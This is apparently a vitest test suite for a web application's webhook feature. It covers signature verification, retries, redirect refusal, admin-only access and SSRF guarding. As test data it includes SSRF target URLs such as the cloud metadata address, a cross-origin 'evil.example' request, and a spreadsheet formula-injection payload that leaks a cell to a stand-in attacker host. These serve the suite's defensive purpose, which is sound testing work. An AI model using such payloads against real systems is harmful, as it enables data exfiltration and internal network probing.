// Webhooks over real HTTP: a local receiver checks every signature with `standardwebhooks`; it is
// down, then up, and gets each event exactly once per webhook-id; the SSRF guard at save and at
// send; no redirect followed; the spreadsheet preset's exact body; admin-only calls; the delivery
// log and resend; lead.updated, report.mailed and the endpoint disabled after failing for days.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createOperator, signInAs, type Session } from './support/admin.ts';
import { outboxMails, postJson, reportOn, startLocalApi, VALID, type LocalApi } from './support/api.ts';
import { startReceiver, type Receiver } from './support/webhook-receiver.ts';

let local: LocalApi;
let admin: Session;
let agent: Session;
let receiver: Receiver;

interface Endpoint {
  id: string;
  url: string;
  events: string[];
  format: string;
  secret: string;
  enabled: boolean;
  disabledReason: string | null;
}
interface Delivery {
  id: string;
  eventId: string;
  type: string;
  status: string;
  attempts: number;
  lastStatus: number | null;
  answer: string | null;
}

beforeAll(async () => {
  local = await startLocalApi({
    RATE_LIMIT: '0',
    MIN_FILL_MS: '0',
    // Loopback only (the receiver); every other private range stays refused.
    WEBHOOK_ALLOW_PRIVATE: '127.0.0.0/8',
    WEBHOOK_RETRY_SCHEDULE: '50,100,150,200,250,300,300,300,300,300',
    WEBHOOK_TIMEOUT_MS: '2000',
    // WEBHOOK_POLL_MS stays at its default (60 s, past every test's timeout): each delivery here
    // goes out because a write kicked the worker or its next retry woke it.
  });
  await createOperator(local.api.db, 'ana@example.com', 'admin');
  await createOperator(local.api.db, 'beto@example.com', 'agent');
  admin = await signInAs(local.base, 'ana@example.com');
  agent = await signInAs(local.base, 'beto@example.com');
  receiver = await startReceiver();
});
afterAll(async () => {
  await local?.close();
  await receiver?.close();
});
beforeEach(async () => {
  // Each test starts with no endpoint, so no other test's events reach it.
  await local.api.db.query('delete from webhook_endpoint');
  receiver.answer = () => ({ status: 200, body: 'ok' });
});

async function addEndpoint(body: Record<string, unknown>): Promise<Endpoint> {
  const response = await admin.call('/api/admin/webhooks', { method: 'POST', body });
  expect(response.status).toBe(201);
  const { endpoint } = (await response.json()) as { endpoint: Endpoint };
  receiver.secrets.set(new URL(endpoint.url).pathname, endpoint.secret);
  return endpoint;
}

async function deliveries(endpoint: Endpoint, after = ''): Promise<{ items: Delivery[]; next: string | null }> {
  const response = await admin.call(`/api/admin/webhooks/${endpoint.id}/deliveries${after ? `?after=${after}` : ''}`);
  expect(response.status).toBe(200);
  return (await response.json()) as { items: Delivery[]; next: string | null };
}

const lead = (nombre: string, headers: Record<string, string> = {}) =>
  postJson(`${local.base}/api/wait-list`, { ...VALID['wait-list'], nombre }, headers);
const poll = { timeout: 15_000, interval: 50 };
/** The events recorded about lead `id`, oldest first. */
const eventsOf = (id: string) =>
  local.api.db.query<{ type: string; data: Record<string, unknown> }>(
    "select type, data from webhook_event where data->>'id' = $1 order by created_at, id",
    [id],
  );

describe('admin-only', () => {
  it('refuses without a session (401), to an agent (403), without the CSRF token or from another origin (403)', async () => {
    expect((await fetch(`${local.base}/api/admin/webhooks`)).status).toBe(401);
    expect((await agent.call('/api/admin/webhooks')).status).toBe(403);
    expect(
      (await agent.call('/api/admin/webhooks', { method: 'POST', body: { url: receiver.url(), events: ['lead.created'] } })).status,
    ).toBe(403);
    expect(
      (
        await admin.call('/api/admin/webhooks', {
          method: 'POST',
          body: { url: receiver.url(), events: ['lead.created'] },
          headers: { 'x-csrf-token': 'wrong' },
        })
      ).status,
    ).toBe(403);
    expect(
      (
        await admin.call('/api/admin/webhooks', {
          method: 'POST',
          body: { url: receiver.url(), events: ['lead.created'] },
          headers: { origin: 'https://evil.example' },
        })
      ).status,
    ).toBe(403);
    expect(await local.api.db.query('select id from webhook_endpoint')).toEqual([]);
  });
});

describe('saving an endpoint', () => {
  it('makes a whsec_ secret on the server and lists the endpoint with it', async () => {
    const endpoint = await addEndpoint({ url: receiver.url(), events: ['lead.updated', 'lead.created'] });
    expect(endpoint).toMatchObject({
      url: receiver.url(),
      events: ['lead.created', 'lead.updated'],
      format: 'standard',
      enabled: true,
      disabledReason: null,
    });
    expect(endpoint.secret).toMatch(/^whsec_[A-Za-z0-9+/]{32}$/);
    const { endpoints } = (await (await admin.call('/api/admin/webhooks')).json()) as { endpoints: Endpoint[] };
    expect(endpoints.map((e) => [e.id, e.secret])).toEqual([[endpoint.id, endpoint.secret]]);
    // A change of URL is checked as a new one.
    const moved = await admin.call(`/api/admin/webhooks/${endpoint.id}`, { method: 'PATCH', body: { url: 'http://10.1.1.1/hook' } });
    expect(moved.status).toBe(400);
    expect(((await moved.json()) as { code: string }).code).toBe('address');
    expect((await local.api.db.query<{ url: string }>('select url from webhook_endpoint'))[0]!.url).toBe(receiver.url());
    const rotated = (await (await admin.call(`/api/admin/webhooks/${endpoint.id}/rotate`, { method: 'POST' })).json()) as {
      secret: string;
    };
    expect(rotated.secret).toMatch(/^whsec_/);
    expect(rotated.secret).not.toBe(endpoint.secret);
  });

  it.each([
    ['http://10.0.0.7/hook', 'address'],
    ['http://169.254.169.254/latest/meta-data', 'address'],
    ['http://192.168.1.1/', 'address'],
    ['http://100.64.0.1/', 'address'],
    ['http://[::ffff:10.0.0.1]/', 'address'],
    // IPv4-translated loopback: refused although this API lets 127.0.0.0/8 through.
    ['http://[::ffff:0:7f00:1]/', 'address'],
    ['http://[fd00::1]/', 'address'],
    ['http://[fe80::1]/', 'address'],
    ['http://0.0.0.0:8080/', 'address'],
    // A name that resolves to nothing (.invalid never does): not called private.
    ['http://no-such-host.invalid/hook', 'dns'],
    ['ftp://example.com/hook', 'url'],
    ['http://user:pass@example.com/', 'url'],
    ['not a url', 'url'],
  ])('refuses %s with a clear 400 (%s) and stores nothing', async (url, code) => {
    const response = await admin.call('/api/admin/webhooks', { method: 'POST', body: { url, events: ['lead.created'] } });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ code, errorMessage: expect.any(String) });
    expect(await local.api.db.query('select id from webhook_endpoint')).toEqual([]);
  });

  it('refuses unknown events and formats, and a spreadsheet for anything but lead.created', async () => {
    const refused = async (body: Record<string, unknown>, code: string) => {
      const response = await admin.call('/api/admin/webhooks', { method: 'POST', body: { url: receiver.url(), ...body } });
      expect(response.status).toBe(400);
      expect(((await response.json()) as { code: string }).code).toBe(code);
    };
    await refused({ events: [] }, 'events');
    await refused({ events: ['lead.deleted'] }, 'events');
    await refused({ events: ['lead.created'], format: 'xml' }, 'format');
    await refused({ events: ['lead.created', 'lead.updated'], format: 'spreadsheet' }, 'spreadsheet-events');
  });

  it('refuses a bad body with a clear 400 naming it, and stores or changes nothing', async () => {
    const refused = async (path: string, method: string, body: Record<string, unknown>, code: string, errorMessage: unknown) => {
      const response = await admin.call(path, { method, body });
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ code, errorMessage });
    };
    const events = expect.stringMatching(/^events must be a non-empty list of lead.created/);
    await refused('/api/admin/webhooks', 'POST', { events: ['lead.created'] }, 'url', 'Send url and events (format if not standard).');
    await refused(
      '/api/admin/webhooks',
      'POST',
      { url: 7, events: ['lead.created'] },
      'url',
      'url must be the http or https address of the endpoint.',
    );
    await refused('/api/admin/webhooks', 'POST', { url: receiver.url(), events: ['lead.deleted'] }, 'events', events);
    expect(await local.api.db.query('select id from webhook_endpoint')).toEqual([]);
    const endpoint = await addEndpoint({ url: receiver.url(), events: ['lead.created'] });
    const path = `/api/admin/webhooks/${endpoint.id}`;
    await refused(path, 'PATCH', { enabled: 'no' }, 'enabled', 'enabled must be true or false.');
    await refused(path, 'PATCH', { events: [] }, 'events', events);
    await refused(path, 'PATCH', { format: 'spreadsheet', events: ['lead.updated'] }, 'spreadsheet-events', expect.any(String));
    expect(await local.api.db.query('select events, format, enabled from webhook_endpoint')).toEqual([
      { events: ['lead.created'], format: 'standard', enabled: true },
    ]);
  });
});

describe('delivery', () => {
  it('retries while the receiver is down, then delivers each event exactly once per webhook-id, signed, with the same id on every retry', async () => {
    const endpoint = await addEndpoint({ url: receiver.url('/down-then-up'), events: ['lead.created'] });
    let down = true;
    let tries = 0;
    // Down: the connection is dropped or answered 503, in turn.
    receiver.answer = (request) =>
      request.path !== '/down-then-up'
        ? { status: 200 }
        : down
          ? ++tries % 2
            ? { reset: true }
            : { status: 503, body: 'busy' }
          : { status: 204 };
    for (const name of ['Uno', 'Dos', 'Tres']) expect((await lead(name)).status).toBe(201);
    // A lead taken for spam makes no event.
    expect((await lead('Robot', { 'Obra-Trap': 'filled' })).status).toBe(201);
    const mine = () => receiver.requests.filter((r) => r.path === '/down-then-up');
    // Down: every event is tried at least twice.
    await expect
      .poll(() => {
        const counts = new Map<string, number>();
        for (const r of mine()) counts.set(String(r.headers['webhook-id']), (counts.get(String(r.headers['webhook-id'])) ?? 0) + 1);
        return counts.size === 3 && [...counts.values()].every((n) => n >= 2);
      }, poll)
      .toBe(true);
    down = false;
    await expect.poll(() => new Set(receiver.accepted('/down-then-up')).size, poll).toBe(3);
    await expect
      .poll(async () => (await deliveries(endpoint)).items.map((d) => d.status), poll)
      .toEqual(['delivered', 'delivered', 'delivered']);
    const accepted = receiver.accepted('/down-then-up');
    expect(accepted).toHaveLength(3);
    expect(mine().every((r) => r.verified)).toBe(true);
    for (const request of mine()) expect(request.headers['webhook-id']).toMatch(/^msg_[0-9a-f]{32}$/);
    const bodies = mine()
      .filter((r) => r.answered === 204)
      .map(
        (r) =>
          JSON.parse(r.body) as {
            type: string;
            timestamp: string;
            data: { kind: string; status: string; id: string; fields: Record<string, string> };
          },
      );
    expect(bodies.map((b) => b.data.fields.nombre ?? '').sort()).toEqual(['Dos', 'Tres', 'Uno']);
    for (const body of bodies) {
      expect(body).toMatchObject({
        type: 'lead.created',
        timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
        data: {
          kind: 'wait-list',
          status: 'new',
          fields: { correo: 'ana@example.com', interesado: 'proveedor', telefono: '+57 300 123 4567', comentario: 'Acero' },
        },
      });
      expect(Object.keys(body.data).sort()).toEqual(['createdAt', 'fields', 'id', 'kind', 'lang', 'status']);
      expect(JSON.stringify(body)).not.toMatch(/idempotency|request_hash|whsec_/);
    }
    const log = (await deliveries(endpoint)).items;
    expect(log.every((d) => d.attempts >= 3 && d.lastStatus === 204 && d.type === 'lead.created')).toBe(true);
  });

  it('does not follow a redirect, says so with its Location in the log, and stops after the last attempt of the schedule', async () => {
    const endpoint = await addEndpoint({ url: receiver.url('/moved'), events: ['lead.created'] });
    receiver.answer = (request) =>
      request.path === '/moved' ? { status: 302, headers: { Location: receiver.url('/elsewhere') }, body: 'moved' } : { status: 200 };
    await lead('Redirigido');
    // Every attempt of the schedule (10 waits: 11 attempts) gets the 302; then the delivery has failed.
    await expect.poll(async () => (await deliveries(endpoint)).items[0]?.status, poll).toBe('failed');
    const [delivery] = (await deliveries(endpoint)).items;
    // The log says why: the redirect and where to, not the receiver's body.
    expect(delivery).toMatchObject({
      status: 'failed',
      attempts: 11,
      lastStatus: 302,
      answer: `the receiver answered 302 to ${receiver.url('/elsewhere')}; webhooks do not follow redirects: use the final address`,
    });
    expect(receiver.requests.filter((r) => r.path === '/moved')).toHaveLength(11);
    expect(receiver.requests.filter((r) => r.path === '/elsewhere')).toEqual([]);
  });

  it('refuses a private address at send time too (an endpoint stored before the guard, or a name that now resolves privately)', async () => {
    const [stored] = await local.api.db.query<{ id: string }>(
      "insert into webhook_endpoint (url, events, secret) values ('http://169.254.169.254/latest/meta-data', '{lead.created}', 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw') returning id",
    );
    await lead('Metadatos');
    await expect
      .poll(async () => (await deliveries({ id: stored!.id } as Endpoint)).items[0]?.attempts ?? 0, poll)
      .toBeGreaterThanOrEqual(1);
    const [delivery] = (await deliveries({ id: stored!.id } as Endpoint)).items;
    expect(delivery!.lastStatus).toBeNull();
    expect(delivery!.answer).toMatch(/private, loopback or reserved address \(169\.254\.169\.254\)/);
  });

  it('posts the spreadsheet preset as the original wait list did: exactly its five keys, in order, formulas guarded', async () => {
    await addEndpoint({ url: receiver.url('/sheet'), events: ['lead.created'], format: 'spreadsheet' });
    receiver.answer = (request) =>
      request.path === '/sheet' ? { status: 302, headers: { Location: 'https://script.googleusercontent.com/echo' } } : { status: 200 };
    await postJson(`${local.base}/api/wait-list`, {
      interesado: 'cliente',
      nombre: 'Hoja Cálculo',
      correo: 'hoja@example.com',
      telefono: '+57 300 765 4321',
      comentario: 'Casa de campo',
    });
    await postJson(`${local.base}/api/contact`, {
      name: 'Marta Hoja',
      email: 'marta@example.com',
      message: '=IMPORTDATA("https://evil.example/?leak="&A1)',
    });
    await expect.poll(() => receiver.requests.filter((r) => r.path === '/sheet').length, poll).toBe(2);
    const bodies = receiver.requests
      .filter((r) => r.path === '/sheet')
      .map((r) => r.body)
      .sort();
    expect(bodies).toEqual([
      // Every cell a sheet would read as a formula gets Sheets' own text mark (not shown there).
      '{"nombre":"Hoja Cálculo","correo":"hoja@example.com","telefono":"\'+57 300 765 4321","comentario":"Casa de campo","interesado":"cliente"}',
      '{"nombre":"Marta Hoja","correo":"marta@example.com","telefono":"","comentario":"\'=IMPORTDATA(\\"https://evil.example/?leak=\\"&A1)","interesado":"cliente"}',
    ]);
    const request = receiver.requests.find((r) => r.path === '/sheet')!;
    expect(request.headers['content-type']).toBe('text/plain;charset=utf-8');
    expect(request.verified).toBe(true);
  });
});

describe('the delivery log', () => {
  it('pages with a cursor, resends one delivery with the same webhook-id, and sends a test event', async () => {
    const endpoint = await addEndpoint({ url: receiver.url('/log'), events: ['lead.created'] });
    const names = Array.from({ length: 52 }, (_, i) => `Registro ${i}`);
    for (const name of names) await lead(name);
    await expect.poll(() => receiver.accepted('/log').length, poll).toBe(52);
    const first = await deliveries(endpoint);
    expect(first.items).toHaveLength(50);
    expect(first.next).toBeTruthy();
    const second = await deliveries(endpoint, first.next!);
    expect(second.items).toHaveLength(2);
    expect(second.next).toBeNull();
    expect(new Set([...first.items, ...second.items].map((d) => d.id)).size).toBe(52);
    expect((await admin.call(`/api/admin/webhooks/${endpoint.id}/deliveries?after=garbage`)).status).toBe(400);

    const chosen = first.items[10]!;
    expect((await admin.call(`/api/admin/webhook-deliveries/${chosen.id}/resend`, { method: 'POST' })).status).toBe(202);
    await expect.poll(() => receiver.accepted('/log').filter((id) => id === chosen.eventId).length, poll).toBe(2);
    expect((await agent.call(`/api/admin/webhook-deliveries/${chosen.id}/resend`, { method: 'POST' })).status).toBe(403);

    const test = await admin.call(`/api/admin/webhooks/${endpoint.id}/test`, { method: 'POST' });
    expect(test.status).toBe(202);
    const { eventId } = (await test.json()) as { eventId: string };
    await expect.poll(() => receiver.accepted('/log').includes(eventId), poll).toBe(true);
    const body = JSON.parse(receiver.requests.find((r) => r.headers['webhook-id'] === eventId)!.body) as { type: string };
    expect(body.type).toBe('webhook.test');
  });
});

describe('events', () => {
  it('sends lead.updated once per console change, with what changed', async () => {
    await addEndpoint({ url: receiver.url('/updated'), events: ['lead.updated'] });
    await lead('Cambiante');
    const [row] = await local.api.db.query<{ id: string }>("select id from lead where name = 'Cambiante'");
    const [me] = await local.api.db.query<{ id: string }>("select id from admin_user where email = 'ana@example.com'");
    expect(
      (await admin.call(`/api/admin/leads/${row!.id}`, { method: 'PATCH', body: { status: 'contacted', assignee: me!.id } })).status,
    ).toBe(204);
    await expect.poll(() => receiver.accepted('/updated').length, poll).toBe(1);
    const body = JSON.parse(receiver.requests.find((r) => r.path === '/updated')!.body) as { type: string; data: Record<string, unknown> };
    expect(body).toMatchObject({ type: 'lead.updated', data: { id: row!.id, status: 'contacted', changed: ['status', 'assignee'] } });
  });

  it('lists only what changed: a value sent as it already was (null to null, the same status) is not a change', async () => {
    await addEndpoint({ url: receiver.url('/same'), events: ['lead.updated'] });
    await lead('Igual');
    const [row] = await local.api.db.query<{ id: string }>("select id from lead where name = 'Igual'");
    const patch = (body: Record<string, unknown>) => admin.call(`/api/admin/leads/${row!.id}`, { method: 'PATCH', body });
    const changes = async () =>
      (await eventsOf(row!.id)).filter((e) => e.type === 'lead.updated').map((e) => (e.data as { changed: string[] }).changed);
    // Nothing changes: no event, no timeline entry.
    expect((await patch({ status: 'new', assignee: null, followUp: null })).status).toBe(204);
    expect(await changes()).toEqual([]);
    expect((await patch({ status: 'won', assignee: null, followUp: null })).status).toBe(204);
    expect(await changes()).toEqual([['status']]);
    const timeline = await local.api.db.query<{ type: string }>('select type from lead_event where lead_id = $1', [row!.id]);
    expect(timeline.map((e) => e.type)).toEqual(['status']);
    // The same follow-up again is no change either; a new one is (and makes its author the assignee).
    const followUp = { at: '2026-12-01T09:00:00-05:00', note: 'Llamar' };
    expect((await patch({ followUp })).status).toBe(204);
    expect((await patch({ followUp, status: 'won' })).status).toBe(204);
    expect(await changes()).toEqual([['status'], ['assignee', 'followUp']]);
    await expect.poll(() => receiver.accepted('/same').length, poll).toBe(2);
  });

  it('sends lead.created when a lead taken for spam is rescued (on its page or in bulk), once', async () => {
    await addEndpoint({ url: receiver.url('/rescued'), events: ['lead.created', 'lead.updated'] });
    for (const name of ['Rescatado', 'Rescate masivo']) expect((await lead(name, { 'Obra-Trap': 'filled' })).status).toBe(201);
    const [one] = await local.api.db.query<{ id: string; status: string }>("select id, status from lead where name = 'Rescatado'");
    const [two] = await local.api.db.query<{ id: string }>("select id from lead where name = 'Rescate masivo'");
    expect(one!.status).toBe('spam');
    expect(await eventsOf(one!.id)).toEqual([]);
    const patch = (status: string) => admin.call(`/api/admin/leads/${one!.id}`, { method: 'PATCH', body: { status } });
    const bulk = (status: string, ids: string[]) =>
      admin.call('/api/admin/leads/bulk', { method: 'POST', body: { action: 'status', status, ids } });
    expect((await patch('new')).status).toBe(204);
    expect((await bulk('contacted', [two!.id])).status).toBe(200);
    const types = async (id: string) => (await eventsOf(id)).map((e) => e.type).sort();
    expect(await types(one!.id)).toEqual(['lead.created', 'lead.updated']);
    expect(await types(two!.id)).toEqual(['lead.created', 'lead.updated']);
    const created = (await eventsOf(one!.id)).find((e) => e.type === 'lead.created')!;
    expect(created.data).toMatchObject({ id: one!.id, kind: 'wait-list', status: 'new' });
    // Marked spam again and taken back: already announced, so lead.updated only.
    expect((await patch('spam')).status).toBe(204);
    expect((await bulk('qualified', [one!.id])).status).toBe(200);
    expect(await types(one!.id)).toEqual(['lead.created', 'lead.updated', 'lead.updated', 'lead.updated']);
    await expect.poll(() => receiver.accepted('/rescued').length, poll).toBe(6);
  });

  it('sends partner.approved when an admin approves a partner, with its code, origins and registration', async () => {
    await addEndpoint({ url: receiver.url('/partner'), events: ['partner.approved'] });
    const registered = await postJson(`${local.base}/api/partner`, { ...VALID.partner, nombre: 'Constructora Webhook' });
    const { id } = (await registered.json()) as { id: string };
    const approve = await admin.call(`/api/admin/partners/${id}/approve`, {
      method: 'POST',
      body: { code: 'cons-webhook', origins: ['https://cons.example'] },
    });
    expect(approve.status).toBe(200);
    await expect.poll(() => receiver.accepted('/partner').length, poll).toBe(1);
    const body = JSON.parse(receiver.requests.find((r) => r.path === '/partner')!.body) as { type: string; data: Record<string, unknown> };
    expect(body).toMatchObject({
      type: 'partner.approved',
      data: {
        id,
        code: 'cons-webhook',
        origins: ['https://cons.example'],
        approvedBy: 'ana@example.com',
        registration: { id, kind: 'partner' },
      },
    });
    // Suspending and reinstating approve nothing new.
    expect((await admin.call(`/api/admin/partners/${id}/suspend`, { method: 'POST', body: {} })).status).toBe(200);
    expect((await admin.call(`/api/admin/partners/${id}/reinstate`, { method: 'POST', body: {} })).status).toBe(200);
    expect(await local.api.db.query("select count(*)::int as n from webhook_event where type = 'partner.approved'")).toEqual([{ n: 1 }]);
  });

  it('sends report.mailed once the outbox has mailed a report (the sent mail kicks the worker)', async () => {
    await addEndpoint({ url: receiver.url('/mailed'), events: ['report.mailed'] });
    // Through the API as a visitor sends it: the outbox renders and mails it, and marking it mailed
    // stores the event. Nothing else kicks the worker after that, and its poll (60 s) is longer
    // than the wait here.
    const sent = await postJson(`${local.base}/api/form-report`, await reportOn(local.base));
    expect(sent.status).toBe(201);
    const { id } = (await sent.json()) as { id: string };
    await expect.poll(() => receiver.accepted('/mailed').length, poll).toBe(1);
    expect(JSON.parse(receiver.requests.find((r) => r.path === '/mailed')!.body)).toMatchObject({
      type: 'report.mailed',
      data: { id, kind: 'report' },
    });
  });

  it('disables an endpoint that has failed for WEBHOOK_DISABLE_AFTER_HOURS, and says so', async () => {
    const endpoint = await addEndpoint({ url: receiver.url('/broken'), events: ['lead.created'] });
    receiver.answer = (request) => (request.path === '/broken' ? { status: 500, body: 'broken' } : { status: 200 });
    // It has been failing for 73 hours (the default limit is 72).
    await local.api.db.query("update webhook_endpoint set failing_since = now() - interval '73 hours' where id = $1", [endpoint.id]);
    await lead('Fallido');
    await expect
      .poll(async () => ((await (await admin.call('/api/admin/webhooks')).json()) as { endpoints: Endpoint[] }).endpoints[0], poll)
      .toMatchObject({ enabled: false, disabledReason: 'failing' });
    expect(await local.api.db.query("select action from admin_audit where action = 'webhook.disabled'")).toHaveLength(1);
    // Every admin (with a password) is told by e-mail, once, through the outbox.
    await expect
      .poll(
        async () =>
          local.api.db.query('select recipient, sent_at is not null as sent from notification_mail where endpoint_id = $1', [endpoint.id]),
        poll,
      )
      .toEqual([{ recipient: 'ana@example.com', sent: true }]);
    // (An approved partner's welcome, earlier in this file, is a notification mail too.)
    const notice = outboxMails(local.dataDir, 'notification-')
      .map((eml) => eml.replace(/=\r\n/g, ''))
      .filter((eml) => eml.includes(endpoint.url));
    expect(notice).toHaveLength(1);
    expect(notice[0]).toContain(endpoint.url);
    expect(notice[0]).toContain('/admin/webhooks');
    const tried = receiver.requests.filter((r) => r.path === '/broken').length;
    // Enabled again by an admin: the pending delivery goes on.
    receiver.answer = () => ({ status: 200 });
    expect((await admin.call(`/api/admin/webhooks/${endpoint.id}`, { method: 'PATCH', body: { enabled: true } })).status).toBe(200);
    await expect.poll(() => receiver.accepted('/broken').length, poll).toBe(1);
    expect(receiver.requests.filter((r) => r.path === '/broken').length).toBe(tried + 1);
  });
});

describe('forgetting a lead', () => {
  it('removes its events and pending deliveries with it (they hold what the visitor typed)', async () => {
    const endpoint = await addEndpoint({ url: receiver.url('/forget'), events: ['lead.created'] });
    receiver.answer = (request) => (request.path === '/forget' ? { status: 500 } : { status: 200 });
    await lead('Olvídame');
    const [row] = await local.api.db.query<{ id: string }>("select id from lead where name = 'Olvídame'");
    await expect.poll(async () => (await deliveries(endpoint)).items.length, poll).toBe(1);
    expect((await admin.call(`/api/admin/leads/${row!.id}`, { method: 'DELETE' })).status).toBe(204);
    expect(await local.api.db.query("select id from webhook_event where data ->> 'id' = $1", [row!.id])).toEqual([]);
    expect((await deliveries(endpoint)).items).toEqual([]);
  });
});
